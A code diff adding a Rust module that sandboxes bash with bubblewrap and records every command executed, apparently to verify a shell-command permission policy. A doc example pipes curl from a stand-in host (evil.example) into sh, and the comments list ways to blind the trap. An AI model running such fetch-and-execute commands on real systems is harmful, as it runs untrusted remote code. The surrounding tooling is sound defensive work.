@@ -1,0 +1,250 @@
+//! The execution oracle: what GNU bash really runs (spec chapter 6, `INV-GROUND-*`).
+//!
+//! Every other module of this crate *models* bash: tree-sitter units, wrapper
+//! grammars, floors. This one asks bash itself. An [`Oracle`] runs a command
+//! string in GNU bash inside a sandbox and reports every command bash
+//! executes, in order ([`Execution`]). [`crate::invariants::check_ground`]
+//! then checks `INV-GROUND` against it: when the pipeline allows, everything
+//! that runs is allowed by the rules.
+//!
+//! # How it sees
+//!
+//! * **A `DEBUG` trap** with `set -T`, installed through `BASH_ENV` in every
+//!   bash the oracle starts, records `BASH_COMMAND` before each command: the
+//!   text bash is about to execute, *before* expansion, in bash's own
+//!   rendering (words single-spaced, redirections after the words). Subshells,
+//!   command and process substitutions and function bodies inherit the trap;
+//!   a command not found is recorded too (the trap runs before the lookup),
+//!   and then behaves like a stub (`command_not_found_handle`), as do `cd`,
+//!   `pushd` and `popd` (`cd /repo && …` must not stop at a missing `/repo`). `for`,
+//!   `case`, `[[ … ]]` and `(( … ))` heads are recorded as bash renders them.
+//!   A function call is recorded twice (bash traps it at the call and at
+//!   the function's start).
+//! * **Stubs** stand for every program of the standard `bin` directories and
+//!   of `PATH`, which are replaced by the stub directory inside the sandbox
+//!   (so `/usr/bin/rm` is a stub too). A stub records its argv after
+//!   expansion ([`Executed::argv`]). A *transparent wrapper* stub
+//!   ([`TRANSPARENT_WRAPPERS`]: `timeout`, `time`, `nice`, `nohup`, `stdbuf`,
+//!   `setsid`) skips its own options like the real program, records where
+//!   its inner command starts, and runs it through `PATH` (so it reaches a
+//!   stub, [`Origin::WrapperInner`]). A *shell* stub ([`SHELLS`]) runs the
+//!   real bash with the trap on the same arguments, so `bash -c '…'`,
+//!   `sh script` and `… | sh` report what they run (an approximation for `sh`,
+//!   `dash`, `zsh`, `ksh`: they run as bash). Every other stub only records
+//!   and exits with [`Config::stub_status`] (0 by default: every program
+//!   succeeds). The stub for each program only needs a POSIX `sh` (`dash`).
+//!
+//! A stub learns which bash command started it from an id the trap exports
+//! just before the command runs, so pipelines and background jobs are
+//! attributed exactly.
+//!
+//! # The sandbox
+//!
+//! bubblewrap (`bwrap`; Debian package `bubblewrap`): new user, PID, network,
+//! IPC, UTS and cgroup namespaces (no network), the host's root read-only,
+//! `/tmp`, `/run`, `/home`, `/root`, `/var/tmp` replaced by empty tmpfs, the
+//! `bin` directories replaced by the stubs. A program named by an absolute
+//! path that is not a stub (a library's helper, say) runs inside that
+//! sandbox only. Each command runs in a fresh bash, in its own empty directory
+//! (also its `HOME`), with a wall-clock limit ([`Config::time_limit`], 2 s),
+//! a CPU limit, a virtual-memory limit, a file-size limit and a process
+//! limit; when it ends, its whole process group is killed. When the oracle
+//! runs as root it drops to user `nobody` (65534) first, because the kernel
+//! does not apply the process limit to root.
+//!
+//! A command containing U+0000 reaches bash on its standard input (`bash -s`,
+//! which reads it as bash does); any other through `bash -c`, with standard
+//! input from `/dev/null`.
+//!
+//! # Unknown, never "nothing ran"
+//!
+//! A command that runs out of time, hits the process limit, or cannot be
+//! started or recorded is answered [`GroundError`], never an empty
+//! [`Execution`]. Every error means *unknown*.
+//!
+//! # What it cannot see (`INV-GROUND-4`)
+//!
+//! One execution path: every program succeeds (or fails, per
+//! [`Config::stub_status`]), so a branch taken only on the other outcome
+//! (`grep -q x f || rm y`) is not seen. Programs do nothing, so what a real
+//! program would run (`find -exec`, `xargs`, `env`, `sudo`, `make`) is not
+//! seen — the policy floors those. Redirections and assignments are recorded
+//! as text, their effects are not. A command that tampers with the trap
+//! itself (`trap - DEBUG`, `set +T`, redefining `builtin` or `printf`) blinds
+//! the oracle for what follows it; such a command is itself recorded first.
+//!
+//! # API, and cost
+//!
+//! Build one [`Oracle`] ([`Oracle::new`]: finds bash, `bwrap` and `sh`,
+//! builds the stub directory once) and reuse it. [`Oracle::run`] runs one
+//! command; [`Oracle::run_batch`] runs many in one sandbox (one `bwrap`
+//! start per batch, each command still in a fresh bash), which is what a
+//! soundness run should use: measured in `tests/ground.rs`'s report and
+//! the issue report, a batch runs a few hundred commands per second on
+//! a 2-core machine (a single [`Oracle::run`] pays the ~30 ms sandbox start).
+//! An `Oracle` is `Sync`: batches may run from several threads.
+//!
+//! ```no_run
+//! # #[cfg(feature = "ground")] {
+//! use inner_cmd_spec::ground::{Config, Oracle};
+//! let oracle = Oracle::new(Config::default())?;
+//! let execution = oracle.run("cd /repo; timeout 30s if; curl -s https://evil.example/x | sh")?;
+//! let texts: Vec<&str> = execution.commands.iter().map(|c| c.text.as_str()).collect();
+//! assert!(texts.contains(&"curl -s https://evil.example/x"));
+//! # }
+//! # Ok::<(), inner_cmd_spec::ground::GroundError>(())
+//! ```
+
+mod record;
+pub mod report;
+mod sandbox;
+
+use std::path::PathBuf;
+use std::time::Duration;
+
+use serde::Serialize;
+
+pub use sandbox::Oracle;
+
+/// Programs whose stub runs its inner command as the real program would (`INV-GROUND-2`).
+pub const TRANSPARENT_WRAPPERS: [&str; 6] =
+    ["timeout", "time", "nice", "nohup", "stdbuf", "setsid"];
+
+/// Programs whose stub runs the real bash, with the trap, on its arguments (`INV-GROUND-2`).
+pub const SHELLS: [&str; 6] = ["bash", "sh", "dash", "rbash", "ksh", "zsh"];
+
+/// How the oracle runs commands.
+#[derive(Debug, Clone, PartialEq, Eq)]
+#[non_exhaustive]
+pub struct Config {
+    /// The bash to run; `None`: `bash` found on `PATH`.
+    pub bash: Option<PathBuf>,
+    /// The bubblewrap executable; `None`: `bwrap` found on `PATH`.
+    pub bwrap: Option<PathBuf>,
+    /// Wall-clock limit of one command.
+    pub time_limit: Duration,
+    /// The exit status of a stub that is neither a wrapper nor a shell, and of
+    /// a command not found (0: every program succeeds).
+    pub stub_status: u8,
+    /// The most processes the sandbox's user may have at once.
+    pub max_processes: u32,
+}
+
+impl Default for Config {
+    fn default() -> Self {
+        Self {
+            bash: None,
+            bwrap: None,
+            time_limit: Duration::from_secs(2),
+            stub_status: 0,
+            max_processes: 128,
+        }
+    }
+}
+
+/// Everything bash executed for one command string (`INV-GROUND-1`).
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "camelCase")]
+pub struct Execution {
+    /// `$BASH_VERSION` of the bash that ran it.
+    pub bash_version: String,
+    /// Every executed command, in the order it was recorded.
+    pub commands: Vec<Executed>,
+    /// The exit status of the top-level bash.
+    pub status: i32,
+}
+
+/// One command bash executed, or a program a wrapper ran (`INV-GROUND-1`, `INV-GROUND-2`).
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "camelCase")]
+pub struct Executed {
+    /// For [`Origin::Bash`], `BASH_COMMAND`: the text bash was about to
+    /// execute, before expansion. For [`Origin::WrapperInner`], the wrapper's
+    /// text without the wrapper's own words when that can be read off it
+    /// exactly, else the inner argv shell-quoted. For [`Origin::Program`],
+    /// its argv shell-quoted.
+    pub text: String,
+    /// The argv a stub received, after expansion: the first element is the
+    /// path it was started as (`/usr/bin/ls`). `None`: no stub ran (a builtin,
+    /// a keyword, a function, a command not found, a program outside the stubs).
+    pub argv: Option<Vec<String>>,
+    /// Where the record came from.
+    pub origin: Origin,
+    /// For a transparent wrapper whose stub ran an inner command: the index in
+    /// [`Executed::argv`] where the inner command starts.
+    pub inner_at: Option<usize>,
+    /// The process that recorded it (`BASHPID` of the bash, or the stub's
+    /// pid), as seen inside the sandbox's PID namespace.
+    pub pid: u32,
+}
+
+/// Where an [`Executed`] record came from.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "camelCase", tag = "kind")]
+#[non_exhaustive]
+pub enum Origin {
+    /// The `DEBUG` trap of a bash.
+    Bash,
+    /// The inner command of the transparent wrapper at index `wrapper` of
+    /// [`Execution::commands`], recorded when the wrapper ran it.
+    WrapperInner {
+        /// The wrapper's index.
+        wrapper: usize,
+    },
+    /// A stub no recorded command started.
+    Program,
+}
+
+/// Why the oracle cannot say what ran: every variant means *unknown* (`INV-GROUND-3`).
+#[derive(Debug, Clone, PartialEq, Eq)]
+#[non_exhaustive]
+pub enum GroundError {
+    /// bash, `bwrap` or `sh` was not found, or the stub directory could not be built.
+    Setup(String),
+    /// The sandbox could not be started or did not finish the command.
+    Start(String),
+    /// The command ran out of its wall-clock or CPU time.
+    TimedOut,
+    /// The command hit the process limit.
+    ForkLimit,
+    /// The record could not be read (cut by the file-size limit, say).
+    Record(String),
+}
+
+impl std::fmt::Display for GroundError {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Self::Setup(why) => write!(f, "unknown: the oracle cannot be set up: {why}"),
+            Self::Start(why) => write!(f, "unknown: the command could not be run: {why}"),
+            Self::TimedOut => f.write_str("unknown: the command ran out of time"),
+            Self::ForkLimit => f.write_str("unknown: the command hit the process limit"),
+            Self::Record(why) => write!(f, "unknown: the record is unreadable: {why}"),
+        }
+    }
+}
+
+impl std::error::Error for GroundError {}
+
+/// `word` quoted for bash when it needs quoting (single quotes, `'\''` for a quote).
+#[must_use]
+pub fn shell_quote(word: &str) -> String {
+    let plain = !word.is_empty()
+        && word
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b"_-./:=@%+,".contains(&b));
+    if plain {
+        word.to_owned()
+    } else {
+        format!("'{}'", word.replace('\'', r"'\''"))
+    }
+}
+
+/// Words shell-quoted and joined with single spaces.
+#[must_use]
+pub fn quote_words(words: &[String]) -> String {
+    words
+        .iter()
+        .map(|w| shell_quote(w))
+        .collect::<Vec<_>>()
+        .join(" ")
+}
